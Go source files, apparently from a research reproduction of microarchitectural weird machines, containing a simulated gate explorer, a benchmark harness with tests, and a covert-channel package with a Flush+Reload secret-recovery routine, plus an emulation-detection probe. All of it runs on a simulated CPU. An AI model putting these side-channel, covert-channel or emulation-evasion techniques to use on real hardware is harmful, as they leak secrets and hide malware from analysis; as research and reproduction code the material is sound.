//	uwm-gates -emucheck                   # §2.1 emulation-detection probe
//	uwm-gates -op and -metrics -trace-out /tmp/and.json
//	                                      # truth table + Prometheus metrics +
//	                                      # Perfetto-loadable trace
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strings"

	"uwm/internal/bexpr"
	"uwm/internal/core"
	"uwm/internal/cpu"
	"uwm/internal/noise"
	"uwm/internal/obs"
	"uwm/internal/trace"
)

// gateRunner adapts both gate families to one explorer surface.
type gateRunner struct {
	name   string
	arity  int
	build  func(*core.Machine) (runner, error)
	bpGate bool
}

type runner interface {
	Run(in ...int) ([]int, error)
	Disassemble() string
	Golden(in []int) []int
}

type bpAdapter struct{ g *core.BPGate }

func (a bpAdapter) Run(in ...int) ([]int, error) {
	v, err := a.g.Run(in...)
	return []int{v}, err
}
func (a bpAdapter) Disassemble() string   { return a.g.Program().Disassemble() }
func (a bpAdapter) Golden(in []int) []int { return []int{a.g.Golden(in)} }

type tsxAdapter struct{ g *core.TSXGate }

func (a tsxAdapter) Run(in ...int) ([]int, error) { return a.g.Run(in...) }
func (a tsxAdapter) Disassemble() string          { return a.g.Program().Disassemble() }
func (a tsxAdapter) Golden(in []int) []int        { return a.g.Golden(in) }

var gates = map[string]gateRunner{
	"AND":        {arity: 2, bpGate: true, build: func(m *core.Machine) (runner, error) { g, err := core.NewBPAnd(m); return bpAdapter{g}, err }},
	"OR":         {arity: 2, bpGate: true, build: func(m *core.Machine) (runner, error) { g, err := core.NewBPOr(m); return bpAdapter{g}, err }},
	"NAND":       {arity: 2, bpGate: true, build: func(m *core.Machine) (runner, error) { g, err := core.NewBPNand(m); return bpAdapter{g}, err }},
	"AND_AND_OR": {arity: 4, bpGate: true, build: func(m *core.Machine) (runner, error) { g, err := core.NewBPAndAndOr(m); return bpAdapter{g}, err }},
	"TSX_ASSIGN": {arity: 1, build: func(m *core.Machine) (runner, error) { g, err := core.NewTSXAssign(m); return tsxAdapter{g}, err }},
	"TSX_AND":    {arity: 2, build: func(m *core.Machine) (runner, error) { g, err := core.NewTSXAnd(m); return tsxAdapter{g}, err }},
	"TSX_OR":     {arity: 2, build: func(m *core.Machine) (runner, error) { g, err := core.NewTSXOr(m); return tsxAdapter{g}, err }},
	"TSX_AND_OR": {arity: 2, build: func(m *core.Machine) (runner, error) { g, err := core.NewTSXAndOr(m); return tsxAdapter{g}, err }},
	"TSX_NOT":    {arity: 1, build: func(m *core.Machine) (runner, error) { g, err := core.NewTSXNot(m); return tsxAdapter{g}, err }},
	"TSX_XOR":    {arity: 2, build: func(m *core.Machine) (runner, error) { g, err := core.NewTSXXor(m); return tsxAdapter{g}, err }},
}

// lookupGate resolves a -gate/-op argument case-insensitively.
func lookupGate(name string) (string, gateRunner, bool) {
	canonical := strings.ToUpper(name)
	spec, ok := gates[canonical]
	return canonical, spec, ok
}

func main() {
	os.Exit(run())
}

// run is main with an exit code, so the observability session's
// deferred Close (metrics exposition, trace file flush) survives
// error paths — os.Exit would skip it.
func run() int {
	var (
		list      = flag.Bool("list", false, "list available gates")
		gateName  = flag.String("gate", "", "gate to explore (case-insensitive; try -list)")
		opName    = flag.String("op", "", "alias for -gate")
		truth     = flag.Bool("truth", false, "run the gate's full truth table")
		disasm    = flag.Bool("disasm", false, "print the gate program's disassembly")
		sweep     = flag.Int("sweep", 0, "run N random operations and report accuracy")
		noiseName = flag.String("noise", "quiet", "noise profile: quiet, paper, isolated, noisy")
		registers = flag.Bool("registers", false, "demo every Table 1 weird register")
		expr      = flag.String("expr", "", "compile a boolean expression (&, |, ^, !, parens) to a weird circuit and run its truth table")
		emucheck  = flag.Bool("emucheck", false, "run the §2.1 emulation-detection probe (against both a real and an emulated machine)")
		traceRun  = flag.Bool("trace", false, "with -gate: record one activation and print the two-plane event trace")
		seed      = flag.Uint64("seed", 1, "simulation seed")
		obsCfg    obs.Config
	)
	obsCfg.AddFlags(flag.CommandLine)
	version := obs.AddVersionFlag(flag.CommandLine)
	flag.Parse()
	if *version {
		obs.PrintVersion(os.Stdout, "uwm-gates")
		return 0
	}

	fail := func(format string, args ...any) int {
		fmt.Fprintf(os.Stderr, "uwm-gates: "+format+"\n", args...)
		return 1
	}

	if *list {
		names := make([]string, 0, len(gates))
		for n := range gates {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			fmt.Printf("%-12s %d input(s)\n", n, gates[n].arity)
		}
		return 0
	}

	cfg := noise.Quiet()
	switch *noiseName {
	case "quiet":
	case "paper":
		cfg = noise.Paper()
	case "isolated":
		cfg = noise.PaperIsolated()
	case "noisy":
		cfg = noise.Noisy()
	default:
		fmt.Fprintf(os.Stderr, "uwm-gates: unknown noise profile %q\n", *noiseName)
		return 2
	}

	sess, err := obs.Start(obsCfg)
	if err != nil {
		return fail("%v", err)
	}
	defer sess.Close()

	m, err := core.NewMachine(core.Options{
		Seed:            *seed,
		Noise:           cfg,
		TrainIterations: 4,
		Metrics:         sess.Registry,
		Sink:            sess.Sink,
	})
	if err != nil {
		return fail("%v", err)
	}

	if *registers {
		if err := demoRegisters(m); err != nil {
			return fail("%v", err)
		}
		return 0
	}

	if *emucheck {
		v, err := core.DetectEmulation(m, 32)
		if err != nil {
			return fail("%v", err)
		}
		fmt.Println("this machine:   ", v)
		emuCfg := cpu.DefaultConfig()
		emuCfg.TSXWindow = 0 // an ISA-faithful emulator: no transient execution
		emu, err := core.NewMachine(core.Options{Seed: *seed, CPU: &emuCfg})
		if err != nil {
			return fail("%v", err)
		}
		v2, err := core.DetectEmulation(emu, 32)
		if err != nil {
			return fail("%v", err)
		}
		fmt.Println("emulated model: ", v2)
		return 0
	}

	if *expr != "" {
		circ, vars, err := bexpr.Compile(m, *expr)
		if err != nil {
			return fail("%v", err)
		}
		fmt.Printf("compiled %q over %v: %d chained transactions\n", *expr, vars, circ.Transactions())
		e, _ := bexpr.Parse(*expr)
		for v := 0; v < 1<<len(vars); v++ {
			in := make([]int, len(vars))
			env := map[string]int{}
			for i, name := range vars {
				in[i] = v >> i & 1
				env[name] = in[i]
			}
			out, err := circ.Run(in...)
			if err != nil {
				return fail("%v", err)
			}
			fmt.Printf("  [%s] = %d  (expect %d)\n", bexpr.FormatAssignment(vars, in), out[0], e.Eval(env))
		}
		return 0
	}

	requested := *gateName
	if requested == "" {
		requested = *opName
	}
	name, spec, ok := lookupGate(requested)
	if !ok {
		fmt.Fprintf(os.Stderr, "uwm-gates: unknown gate %q (try -list)\n", requested)
		// A usage error has nothing to report: don't follow it with a
		// metrics dump of machine-calibration noise.
		sess.SetOutput(io.Discard)
		return 2
	}
	g, err := spec.build(m)
	if err != nil {
		return fail("%v", err)
	}

	// An observability run with no explicit action still needs gate
	// activity to observe: default to the truth table.
	runTruth := *truth
	if !*disasm && !runTruth && *sweep == 0 && !*traceRun {
		if obsCfg.Enabled() {
			runTruth = true
		} else {
			fmt.Fprintln(os.Stderr, "uwm-gates: nothing to do; pass -truth, -disasm or -sweep")
			return 2
		}
	}

	if *disasm {
		fmt.Print(g.Disassemble())
	}
	if *traceRun {
		rec := trace.NewRecorder(0)
		prev := m.CPU().Sink()
		if prev != nil {
			// Keep streaming to -trace-out while the recorder captures
			// the activation for the printed two-plane view.
			m.CPU().SetSink(trace.Tee(prev, rec))
		} else {
			m.CPU().SetSink(rec)
		}
		in := make([]int, spec.arity)
		for j := range in {
			in[j] = 1
		}
		out, err := g.Run(in...)
		m.CPU().SetSink(prev)
		if err != nil {
			return fail("%v", err)
		}
		fmt.Printf("%s%v = %v\n", name, in, out)
		arch, micro := 0, 0
		for _, e := range rec.Events() {
			plane := "μarch"
			if e.Kind.Architectural() {
				plane = "arch "
				arch++
			} else {
				micro++
			}
			fmt.Printf("[%s] %s\n", plane, e)
		}
		fmt.Printf("\n%d architectural events (the debugger's view), %d microarchitectural (the computation)\n", arch, micro)
	}
	if runTruth {
		fmt.Printf("threshold: %d cycles\n", m.Threshold())
		for c := 0; c < 1<<spec.arity; c++ {
			in := make([]int, spec.arity)
			for j := range in {
				in[j] = (c >> j) & 1
			}
			out, err := g.Run(in...)
			if err != nil {
				return fail("%v", err)
			}
			fmt.Printf("%s%v = %v  (expect %v)\n", name, in, out, g.Golden(in))
		}
	}
	if *sweep > 0 {
		rng := noise.NewRNG(*seed + 99)
		correct := 0
		in := make([]int, spec.arity)
		for i := 0; i < *sweep; i++ {
			for j := range in {
				in[j] = rng.Bit()
			}
			out, err := g.Run(in...)
			if err != nil {
				return fail("%v", err)
			}
			want := g.Golden(in)
			ok := true
			for k := range want {
				if out[k] != want[k] {
					ok = false
				}
			}
			if ok {
				correct++
			}
		}
		fmt.Printf("%s: %d/%d correct (%.5f) under %s noise\n",
			name, correct, *sweep, float64(correct)/float64(*sweep), *noiseName)
	}
	return 0
}

// demoRegisters writes and reads back every Table 1 weird register.
func demoRegisters(m *core.Machine) error {
	type namedWR struct {
		name  string
		build func() (core.WeirdRegister, error)
	}
	regs := []namedWR{
		{"d-cache (DC-WR)", func() (core.WeirdRegister, error) { return core.NewDCWR(m) }},
		{"i-cache (IC-WR)", func() (core.WeirdRegister, error) { return core.NewICWR(m) }},
		{"branch predictor (BP-WR)", func() (core.WeirdRegister, error) { return core.NewBPWR(m) }},
		{"BTB", func() (core.WeirdRegister, error) { return core.NewBTBWR(m) }},
		{"mul contention", func() (core.WeirdRegister, error) { return core.NewMulWR(m) }},
		{"ROB contention", func() (core.WeirdRegister, error) { return core.NewROBWR(m) }},
	}
	for _, r := range regs {
		wr, err := r.build()
		if err != nil {
			return fmt.Errorf("%s: %w", r.name, err)
		}
		okAll := true
		for _, bit := range []int{0, 1, 1, 0} {
			if err := wr.Write(bit); err != nil {
				return fmt.Errorf("%s write: %w", r.name, err)
			}
			got, raw, err := wr.ReadRaw()
			if err != nil {
				return fmt.Errorf("%s read: %w", r.name, err)
			}
			if got != bit {
				okAll = false
			}
			fmt.Printf("%-26s wrote %d read %d (latency %d cycles)\n", r.name, bit, got, raw)
		}
		if okAll {
			fmt.Printf("%-26s OK\n\n", r.name)
		} else {
			fmt.Printf("%-26s MISREAD\n\n", r.name)
		}
	}
	return nil
}
