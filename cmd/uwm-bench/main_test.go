package main

import (
	"path/filepath"
	"testing"

	"uwm/internal/benchreport"
	"uwm/internal/evalharness"
)

// fakeRegistry swaps in an instant experiment so CLI tests don't pay
// for real simulator runs.
func fakeRegistry(t *testing.T, metrics ...benchreport.Metric) {
	t.Helper()
	old := Registry
	Registry = func() []evalharness.Registered {
		return []evalharness.Registered{{
			Name: "table2", Table: 2,
			Run: func(evalharness.Params) (*evalharness.RunResult, error) {
				return &evalharness.RunResult{Name: "table2", Text: "== fake ==", Metrics: metrics}, nil
			},
		}}
	}
	t.Cleanup(func() { Registry = old })
}

func TestSelectionConflicts(t *testing.T) {
	fakeRegistry(t)
	cases := []struct {
		name string
		args []string
		want int
	}{
		{"table and figure", []string{"-table", "2", "-figure", "7"}, 2},
		{"all and table", []string{"-all", "-table", "2"}, 2},
		{"all and figure", []string{"-all", "-figure", "6"}, 2},
		{"nothing selected", nil, 2},
		{"bad flag", []string{"-bogus"}, 2},
		{"valid single table", []string{"-table", "2"}, 0},
		{"valid all", []string{"-all"}, 0},
	}
	for _, c := range cases {
		if got := realMain(c.args); got != c.want {
			t.Errorf("%s: exit %d, want %d", c.name, got, c.want)
		}
	}
}

func TestJSONReport(t *testing.T) {
	fakeRegistry(t, benchreport.Metric{
		Name: "AND/ops_per_sec", Unit: "ops/s",
		Better: benchreport.HigherIsBetter, Value: 60000,
	})
	path := filepath.Join(t.TempDir(), "bench.json")
	if code := realMain([]string{"-table", "2", "-json", path, "-repeat", "3"}); code != 0 {
		t.Fatalf("exit %d, want 0", code)
	}
	rep, err := benchreport.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if rep.SchemaVersion != benchreport.SchemaVersion || rep.Params != "quick" {
		t.Errorf("header: %+v", rep)
	}
	e := rep.Experiment("table2")
	if e == nil {
		t.Fatalf("table2 missing from %v", rep.ExperimentNames())
	}
	if len(e.WallSamples) != 3 {
		t.Errorf("wall samples: %v", e.WallSamples)
	}
	if m := e.Metric("AND/ops_per_sec"); m == nil || m.Value != 60000 {
		t.Errorf("metric: %+v", m)
	}
}

// TestCompareExitCodes is the acceptance contract: identical inputs
// exit 0, an injected significant regression exits nonzero.
func TestCompareExitCodes(t *testing.T) {
	dir := t.TempDir()
	write := func(name string, wall []float64, acc float64) string {
		r := benchreport.New(1, "quick")
		exp := benchreport.Experiment{Name: "table2", WallNanos: int64(wall[len(wall)/2]), WallSamples: wall}
		exp.Metrics = []benchreport.Metric{{
			Name: "AND/accuracy", Better: benchreport.HigherIsBetter, Value: acc,
		}}
		r.Add(exp)
		path := filepath.Join(dir, name)
		if err := r.WriteFile(path); err != nil {
			t.Fatal(err)
		}
		return path
	}

	fast := []float64{100, 101, 102, 103, 104}
	slow := []float64{300, 301, 302, 303, 304}
	base := write("old.json", fast, 0.99)

	if code := realMain([]string{"-compare", base, base}); code != 0 {
		t.Errorf("identical reports: exit %d, want 0", code)
	}
	regressed := write("new.json", slow, 0.99)
	if code := realMain([]string{"-compare", base, regressed}); code != 3 {
		t.Errorf("injected 3x wall regression: exit %d, want 3", code)
	}
	improved := write("better.json", fast, 0.999)
	if code := realMain([]string{"-compare", base, improved}); code != 0 {
		t.Errorf("improvement flagged as regression: exit %d", code)
	}

	if code := realMain([]string{"-compare", base}); code != 2 {
		t.Errorf("missing arg: exit %d, want 2", code)
	}
	if code := realMain([]string{"-compare", base, filepath.Join(dir, "missing.json")}); code != 1 {
		t.Errorf("unreadable file: exit %d, want 1", code)
	}
}
