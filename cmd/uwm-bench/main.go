// Command uwm-bench regenerates the paper's evaluation tables and
// figures against the simulated microarchitectural weird machine.
//
// Usage:
//
//	uwm-bench -all                          # every table and figure, quick sizes
//	uwm-bench -table 8                      # one table
//	uwm-bench -figure 7                     # one figure
//	uwm-bench -ablation                     # design-choice ablations
//	uwm-bench -all -full                    # paper-sized runs (slow)
//	uwm-bench -all -json BENCH.json         # also write a machine-readable report
//	uwm-bench -all -json out.json -repeat 5 # wall-time samples across 5 repeats
//	uwm-bench -compare old.json new.json    # benchstat-style perf diff
//
// Quick sizes keep every experiment in seconds; -full switches to the
// paper's operation counts (Table 2: 1M ops/gate, Table 5: 320k,
// Tables 6–8: 64k, 100 APT experiments, SHA-1 with s=10,k=3,n=5).
//
// -json serialises per-experiment wall time, allocation stats and every
// named metric (gate ops/sec, accuracies, delay medians …) as a
// versioned report; -compare diffs two such reports and exits with
// code 3 when a statistically significant regression is found.
package main

import (
	"flag"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"time"

	"uwm/internal/benchreport"
	"uwm/internal/evalharness"
	"uwm/internal/obs"
	"uwm/internal/stats"
)

func main() {
	os.Exit(realMain(os.Args[1:]))
}

// realMain returns main's exit code so the observability session
// closes (metrics exposition, trace flush) on every path, and so tests
// can drive the CLI: 0 ok, 1 runtime error, 2 usage error, 3 compare
// found significant regressions.
func realMain(args []string) int {
	fs := flag.NewFlagSet("uwm-bench", flag.ContinueOnError)
	var (
		tableN    = fs.Int("table", 0, "reproduce one table (2,3,4,5,6,7,8)")
		figureN   = fs.Int("figure", 0, "reproduce one figure (6,7,8)")
		ablation  = fs.Bool("ablation", false, "run design-choice ablations")
		extra     = fs.Bool("extra", false, "run extension experiments (WR covert-channel capacities)")
		engineF   = fs.Bool("engine", false, "run the concurrent-engine throughput and vote-accuracy experiment")
		healthF   = fs.Bool("health", false, "run the gate-health experiment (accuracy and margin vs injected noise)")
		circuitF  = fs.Bool("circuit", false, "run the circuit optimizer + level-parallel scheduler experiment")
		all       = fs.Bool("all", false, "reproduce every table and figure")
		full      = fs.Bool("full", false, "use the paper's experiment sizes (slow)")
		record    = fs.Bool("record", false, "use the EXPERIMENTS.md recording sizes (paper-sized where cheap)")
		seed      = fs.Uint64("seed", 0, "override the experiment seed")
		jsonOut   = fs.String("json", "", "write a machine-readable benchreport to this file")
		repeat    = fs.Int("repeat", 1, "with -json: run each experiment N times for wall-time samples")
		compare   = fs.Bool("compare", false, "compare two benchreport files: uwm-bench -compare old.json new.json")
		threshold = fs.Float64("threshold", 0.10, "with -compare: relative change considered notable")
		alpha     = fs.Float64("alpha", 0.05, "with -compare: significance level for the Mann-Whitney test")
		allDeltas = fs.Bool("all-deltas", false, "with -compare: print unchanged metrics too")
		obsCfg    obs.Config
	)
	obsCfg.AddFlags(fs)
	version := obs.AddVersionFlag(fs)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		obs.PrintVersion(os.Stdout, "uwm-bench")
		return 0
	}

	if *compare {
		if fs.NArg() != 2 {
			fmt.Fprintln(os.Stderr, "usage: uwm-bench -compare old.json new.json")
			return 2
		}
		return runCompare(fs.Arg(0), fs.Arg(1), benchreport.Options{Threshold: *threshold, Alpha: *alpha}, *allDeltas)
	}

	// Selection flags are mutually exclusive: -all already includes
	// every table and figure, and one -table cannot also be a -figure.
	switch {
	case *tableN != 0 && *figureN != 0:
		fmt.Fprintln(os.Stderr, "uwm-bench: -table and -figure are mutually exclusive; pick one (or -all)")
		return 2
	case *all && (*tableN != 0 || *figureN != 0):
		fmt.Fprintln(os.Stderr, "uwm-bench: -all already selects every table and figure; drop -table/-figure")
		return 2
	}
	if !*all && *tableN == 0 && *figureN == 0 && !*ablation && !*extra && !*engineF && !*healthF && !*circuitF {
		fs.Usage()
		return 2
	}
	if *repeat < 1 {
		*repeat = 1
	}

	params := evalharness.Quick()
	preset := "quick"
	if *record {
		params, preset = evalharness.Record(), "record"
	}
	if *full {
		params, preset = evalharness.Full(), "full"
	}
	if *seed != 0 {
		params.Seed = *seed
	}

	sess, err := obs.Start(obsCfg)
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-bench: %v\n", err)
		return 1
	}
	defer sess.Close()
	params.Metrics = sess.Registry
	params.Sink = sess.Sink

	selected := func(r evalharness.Registered) bool {
		if *all {
			return true
		}
		switch {
		case r.Table != 0:
			return *tableN == r.Table
		case r.Figure != 0:
			return *figureN == r.Figure
		case r.Name == "ablations":
			return *ablation
		case r.Name == "extra":
			return *extra
		case r.Name == "engine":
			return *engineF
		case r.Name == "health":
			return *healthF
		case r.Name == "circuit":
			return *circuitF
		}
		return false
	}

	report := benchreport.New(params.Seed, preset)
	report.CreatedUnix = time.Now().Unix()
	report.GitSHA = gitSHA()

	for _, reg := range Registry() {
		if !selected(reg) {
			continue
		}
		exp, err := measure(reg, params, *repeat)
		if err != nil {
			fmt.Fprintf(os.Stderr, "uwm-bench: %s: %v\n", reg.Name, err)
			return 1
		}
		report.Add(*exp)
	}

	if *jsonOut != "" {
		if err := report.WriteFile(*jsonOut); err != nil {
			fmt.Fprintf(os.Stderr, "uwm-bench: %v\n", err)
			return 1
		}
		fmt.Printf("(benchreport written to %s)\n", *jsonOut)
	}
	return 0
}

// Registry is indirected for tests.
var Registry = evalharness.Registry

// measure runs one experiment `repeats` times, printing its rendered
// output once and collecting wall-time and allocation statistics.
func measure(reg evalharness.Registered, params evalharness.Params, repeats int) (*benchreport.Experiment, error) {
	exp := &benchreport.Experiment{Name: reg.Name}
	wall := make([]float64, 0, repeats)
	for i := 0; i < repeats; i++ {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		start := time.Now()
		res, err := reg.Run(params)
		elapsed := time.Since(start)
		runtime.ReadMemStats(&after)
		if err != nil {
			return nil, err
		}
		wall = append(wall, float64(elapsed.Nanoseconds()))
		if i == 0 {
			fmt.Println(res.Text)
			fmt.Printf("(%s took %v)\n\n", reg.Name, elapsed.Round(time.Millisecond))
			exp.AllocBytes = after.TotalAlloc - before.TotalAlloc
			exp.Allocs = after.Mallocs - before.Mallocs
			exp.Metrics = res.Metrics
		}
	}
	exp.WallNanos = int64(stats.Summarize(append([]float64(nil), wall...)).Median)
	if repeats > 1 {
		exp.WallSamples = wall
	}
	return exp, nil
}

// runCompare implements `uwm-bench -compare old.json new.json`.
func runCompare(oldPath, newPath string, opts benchreport.Options, allDeltas bool) int {
	oldRep, err := benchreport.ReadFile(oldPath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-bench: %v\n", err)
		return 1
	}
	newRep, err := benchreport.ReadFile(newPath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-bench: %v\n", err)
		return 1
	}
	cmp := benchreport.Compare(oldRep, newRep, opts)
	fmt.Print(cmp.Render(!allDeltas))
	if len(cmp.Regressions()) > 0 {
		return 3
	}
	return 0
}

// gitSHA stamps the report with the working tree's commit, best-effort:
// an empty string outside a git checkout.
func gitSHA() string {
	out, err := exec.Command("git", "rev-parse", "HEAD").Output()
	if err != nil {
		return ""
	}
	return strings.TrimSpace(string(out))
}
