// Command uwm-bench regenerates the paper's evaluation tables and
// figures against the simulated microarchitectural weird machine.
//
// Usage:
//
//	uwm-bench -all                 # every table and figure, quick sizes
//	uwm-bench -table 8             # one table
//	uwm-bench -figure 7            # one figure
//	uwm-bench -ablation            # design-choice ablations
//	uwm-bench -all -full           # paper-sized runs (slow)
//
// Quick sizes keep every experiment in seconds; -full switches to the
// paper's operation counts (Table 2: 1M ops/gate, Table 5: 320k,
// Tables 6–8: 64k, 100 APT experiments, SHA-1 with s=10,k=3,n=5).
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"uwm/internal/evalharness"
	"uwm/internal/obs"
)

func main() {
	os.Exit(realMain())
}

// realMain returns main's exit code so the observability session
// closes (metrics exposition, trace flush) on every path.
func realMain() int {
	var (
		tableN   = flag.Int("table", 0, "reproduce one table (2,3,4,5,6,7,8)")
		figureN  = flag.Int("figure", 0, "reproduce one figure (6,7,8)")
		ablation = flag.Bool("ablation", false, "run design-choice ablations")
		extra    = flag.Bool("extra", false, "run extension experiments (WR covert-channel capacities)")
		all      = flag.Bool("all", false, "reproduce every table and figure")
		full     = flag.Bool("full", false, "use the paper's experiment sizes (slow)")
		record   = flag.Bool("record", false, "use the EXPERIMENTS.md recording sizes (paper-sized where cheap)")
		seed     = flag.Uint64("seed", 0, "override the experiment seed")
		obsCfg   obs.Config
	)
	obsCfg.AddFlags(flag.CommandLine)
	flag.Parse()

	params := evalharness.Quick()
	if *record {
		params = evalharness.Record()
	}
	if *full {
		params = evalharness.Full()
	}
	if *seed != 0 {
		params.Seed = *seed
	}

	if !*all && *tableN == 0 && *figureN == 0 && !*ablation && !*extra {
		flag.Usage()
		return 2
	}

	sess, err := obs.Start(obsCfg)
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-bench: %v\n", err)
		return 1
	}
	defer sess.Close()
	params.Metrics = sess.Registry
	params.Sink = sess.Sink

	code := 0
	run := func(name string, f func() error) {
		if code != 0 {
			return
		}
		start := time.Now()
		if err := f(); err != nil {
			fmt.Fprintf(os.Stderr, "uwm-bench: %s: %v\n", name, err)
			code = 1
			return
		}
		fmt.Printf("(%s took %v)\n\n", name, time.Since(start).Round(time.Millisecond))
	}

	printTable := func(t *evalharness.Table) { fmt.Println(t.Render()) }

	wantTable := func(n int) bool { return *all || *tableN == n }
	wantFigure := func(n int) bool { return *all || *figureN == n }

	if wantTable(2) {
		run("table 2", func() error {
			t, err := evalharness.Table2(params)
			if err != nil {
				return err
			}
			printTable(t)
			return nil
		})
	}
	if wantTable(3) || wantFigure(6) {
		run("table 3 / figure 6", func() error {
			t, counts, err := evalharness.Table3(params)
			if err != nil {
				return err
			}
			if wantTable(3) {
				printTable(t)
			}
			if wantFigure(6) {
				fmt.Println(evalharness.Figure6(counts))
			}
			return nil
		})
	}
	if wantTable(4) {
		run("table 4", func() error {
			t, err := evalharness.Table4(params)
			if err != nil {
				return err
			}
			printTable(t)
			return nil
		})
	}
	if wantTable(5) {
		run("table 5", func() error {
			t, err := evalharness.Table5(params)
			if err != nil {
				return err
			}
			printTable(t)
			return nil
		})
	}
	if wantTable(6) {
		run("table 6", func() error {
			t, err := evalharness.Table6(params)
			if err != nil {
				return err
			}
			printTable(t)
			return nil
		})
	}
	if wantTable(7) {
		run("table 7", func() error {
			t, err := evalharness.Table7(params)
			if err != nil {
				return err
			}
			printTable(t)
			return nil
		})
	}
	if wantTable(8) {
		run("table 8", func() error {
			t, err := evalharness.Table8(params)
			if err != nil {
				return err
			}
			printTable(t)
			return nil
		})
	}
	if wantFigure(7) {
		run("figure 7", func() error {
			text, _, _, err := evalharness.FigureKDE(params, "AND")
			if err != nil {
				return err
			}
			fmt.Println(text)
			return nil
		})
	}
	if wantFigure(8) {
		run("figure 8", func() error {
			text, _, _, err := evalharness.FigureKDE(params, "OR")
			if err != nil {
				return err
			}
			fmt.Println(text)
			return nil
		})
	}
	if *ablation || *all {
		run("ablations", func() error {
			t, err := evalharness.Ablations(params)
			if err != nil {
				return err
			}
			printTable(t)
			return nil
		})
	}
	if *extra || *all {
		run("extra", func() error {
			t, err := evalharness.ExtraChannels(params)
			if err != nil {
				return err
			}
			printTable(t)
			return nil
		})
	}
	return code
}
