// Package covert realizes §3.1's observation that "any
// microarchitectural covert or side channel can be abstracted as a
// weird register":
//
//   - Channel turns any core.WeirdRegister into a framed covert channel
//     between two parties that share only microarchitectural state, with
//     per-bit redundancy and a capacity/error report;
//   - FlushReload is the classic side channel the paper builds on (§2):
//     a victim whose memory access depends on a secret, and an attacker
//     who recovers the secret by flushing and timing shared lines.
package covert

import (
	"fmt"

	"uwm/internal/core"
	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/noise"
)

// Channel is a covert channel over one weird register. Sender and
// receiver alternate in bit slots: the sender drives the register, the
// receiver reads (destructively) before the next slot.
type Channel struct {
	wr core.WeirdRegister
	// reps is the per-bit redundancy: each bit is written and read
	// reps times and decided by majority, trading bandwidth for
	// reliability exactly like the gates' s/k/n machinery.
	reps int
}

// NewChannel wraps a weird register; reps < 1 defaults to 1.
func NewChannel(wr core.WeirdRegister, reps int) *Channel {
	if reps < 1 {
		reps = 1
	}
	return &Channel{wr: wr, reps: reps}
}

// Transfer sends data through the register and returns what the
// receiving side decoded. Both sides run in lockstep slots, which
// models a synchronized covert channel (the paper's writing and
// reading "to and from a common WR").
func (c *Channel) Transfer(data []byte) ([]byte, error) {
	out := make([]byte, len(data))
	for i, b := range data {
		var decoded byte
		for bit := 0; bit < 8; bit++ {
			ones := 0
			for r := 0; r < c.reps; r++ {
				if err := c.wr.Write(int(b >> uint(bit) & 1)); err != nil {
					return nil, err
				}
				v, err := c.wr.Read()
				if err != nil {
					return nil, err
				}
				ones += v
			}
			if 2*ones > c.reps {
				decoded |= 1 << uint(bit)
			}
		}
		out[i] = decoded
	}
	return out, nil
}

// Report summarizes a channel measurement.
type Report struct {
	Bits   int
	Errors int
	Cycles int64
}

// ErrorRate returns the per-bit error fraction.
func (r Report) ErrorRate() float64 {
	if r.Bits == 0 {
		return 0
	}
	return float64(r.Errors) / float64(r.Bits)
}

// BitsPerSecond converts the simulated cycle cost to throughput at the
// given clock (the paper's machines ran at 2.3 GHz).
func (r Report) BitsPerSecond(hz float64) float64 {
	if r.Cycles == 0 {
		return 0
	}
	return float64(r.Bits) / (float64(r.Cycles) / hz)
}

// String renders the report for logs.
func (r Report) String() string {
	return fmt.Sprintf("%d bits, %d errors (%.4f), %d cycles",
		r.Bits, r.Errors, r.ErrorRate(), r.Cycles)
}

// Measure drives n random bits through the channel and reports error
// rate and simulated cycle cost.
func Measure(m *core.Machine, c *Channel, n int, rng *noise.RNG) (Report, error) {
	rep := Report{Bits: n}
	start := m.CPU().TSC()
	for i := 0; i < n; i++ {
		bit := rng.Bit()
		ones := 0
		for r := 0; r < c.reps; r++ {
			if err := c.wr.Write(bit); err != nil {
				return rep, err
			}
			v, err := c.wr.Read()
			if err != nil {
				return rep, err
			}
			ones += v
		}
		got := 0
		if 2*ones > c.reps {
			got = 1
		}
		if got != bit {
			rep.Errors++
		}
	}
	rep.Cycles = m.CPU().TSC() - start
	return rep, nil
}

// FlushReload is the §2 side channel: a victim program whose data
// access depends on a secret nibble, sharing an array of probe lines
// with the attacker. The attacker flushes the lines, lets the victim
// run once, and times each line — the fast one names the nibble.
type FlushReload struct {
	m      *core.Machine
	secret mem.Symbol
	table  [16]mem.Symbol
	prog   *isa.Program
}

// NewFlushReload builds the victim and attacker programs on m.
func NewFlushReload(m *core.Machine) (*FlushReload, error) {
	f := &FlushReload{m: m}
	lay := m.Layout()
	f.secret = lay.AllocLine("fr.secret")
	for i := range f.table {
		f.table[i] = lay.AllocLine(fmt.Sprintf("fr.t%d", i))
	}
	base := f.table[0].Addr

	b := isa.NewBuilder(0x6_000_000)
	// victim_lo: access table[secret & 0xF]. The victim is ordinary
	// code — its architectural behaviour is perfectly benign; the leak
	// is the cache state it leaves behind.
	b.Label("victim_lo").
		Load(isa.R1, f.secret, 0).
		MovI(isa.R2, 0xF).
		BoolAnd(isa.R1, isa.R1, isa.R2).
		Shl(isa.R1, isa.R1, 6). // ×64: one line per nibble value
		LoadR(isa.R3, isa.R1, int64(base)).
		Halt()
	// victim_hi: access table[secret >> 4].
	b.Label("victim_hi").
		Load(isa.R1, f.secret, 0).
		Shr(isa.R1, isa.R1, 4).
		MovI(isa.R2, 0xF).
		BoolAnd(isa.R1, isa.R1, isa.R2).
		Shl(isa.R1, isa.R1, 6).
		LoadR(isa.R3, isa.R1, int64(base)).
		Halt()
	// flush: evict every probe line.
	b.Label("flush")
	for i := range f.table {
		b.Clflush(f.table[i], 0)
	}
	b.Fence().Halt()
	// probe<i>: timed reload of line i.
	for i := range f.table {
		b.Label(fmt.Sprintf("probe%d", i)).
			Rdtsc(isa.R10).
			Load(isa.R11, f.table[i], 0).
			Rdtsc(isa.R12).
			Halt()
	}
	prog, err := b.Build()
